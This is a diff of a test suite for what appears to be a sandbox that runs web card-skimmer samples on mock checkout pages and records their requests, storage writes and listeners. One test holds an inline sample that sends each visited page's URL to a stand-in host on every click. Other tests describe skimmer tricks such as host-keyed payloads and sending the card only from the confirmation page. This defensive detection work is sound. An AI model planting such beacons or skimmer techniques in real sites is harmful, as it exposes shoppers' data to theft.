@@ -74,9 +74,7 @@ describe('what an observation records', () => {
   it("serves the checkouts at the page's own origin, where a host-keyed payload unlocks", async () => {
     const s = byName('host-keyed-payload')
     const there = await observe('host-keyed-payload')
-    expect(there.pages.every((p) => p.startsWith('https://www.harbour-kites.test/checkout/'))).toBe(
-      true,
-    )
+    expect(there.pages.every((p) => p.startsWith('https://www.harbour-kites.test/'))).toBe(true)
     expect(there.compiled.map((c) => c.how)).toContain('Function')
     // on the chamber's own origin the key is wrong: the bytes stay noise, nothing runs or leaves
     const elsewhere = await chamber.detonate(s.source)
@@ -91,7 +89,7 @@ describe('what an observation records', () => {
     expect(o.compiled).toEqual([])
   })
 
-  it('names the sample, the chamber and the three checkouts', async () => {
+  it('names the sample, the chamber and the four checkouts', async () => {
     const o = await observe('luhn-validator')
     expect(o.sha256).toBe(sha256(byName('luhn-validator').source))
     expect(o.chamberVersion).toBe(CHAMBER_VERSION)
@@ -99,6 +97,7 @@ describe('what an observation records', () => {
       'https://shop.example/checkout/#payment',
       expect.stringMatching(/\/checkout\/onepage\/.*billing.*onestepcheckout/),
       'https://shop.example/checkout/',
+      'https://shop.example/index.php?route=checkout/checkout',
     ])
     // It read the card to validate it, listened for input, and sent nothing at all.
     expect(o.listeners).toContainEqual({ target: 'document', type: 'input' })
@@ -142,6 +141,18 @@ describe('what an observation records', () => {
     expect(frame?.method).toBe('SEND')
     expect(frame?.encodings).toEqual(expect.arrayContaining(['base64', 'json']))
     expect(frame?.body).not.toContain(TEST_VALUES.card)
+  })
+
+  it('goes on to the order-confirmation page only when the sample wrote to storage', async () => {
+    const stash = await observe('stash-until-success')
+    expect(stash.storage).toContainEqual({ area: 'sessionStorage', key: '_vw_st' })
+    expect(stash.pages.at(-1)).toBe('https://shop.example/checkout/onepage/success/')
+    // nothing left on the checkouts themselves: the card went out from the confirmation page
+    const sent = stash.requests.filter((r) => r.carriesCard)
+    expect(sent.map((r) => r.type)).toEqual(['image'])
+    const quiet = await observe('luhn-validator')
+    expect(quiet.storage).toEqual([])
+    expect(quiet.pages).not.toContain('https://shop.example/checkout/onepage/success/')
   })
 
   it('records anti-analysis probes, storage writes and serialized reads', async () => {
@@ -198,8 +209,9 @@ describe('a sample that navigates the page itself', () => {
         " document.addEventListener('click', function () { new Image().src = 'https://c.example/seen?at=' + encodeURIComponent(location.href) })",
     )
     expect(o.status, o.reason ?? '').toBe('ok')
-    expect(o.pages).toHaveLength(3)
+    // four checkouts, then the order confirmation: the sample wrote to sessionStorage
+    expect(o.pages).toHaveLength(5)
     const seen = o.requests.filter((r) => r.url.startsWith('https://c.example/seen'))
-    expect(new Set(seen.map((r) => new URL(r.url).searchParams.get('at'))).size).toBe(3)
+    expect(new Set(seen.map((r) => new URL(r.url).searchParams.get('at'))).size).toBe(4)
   })
 })
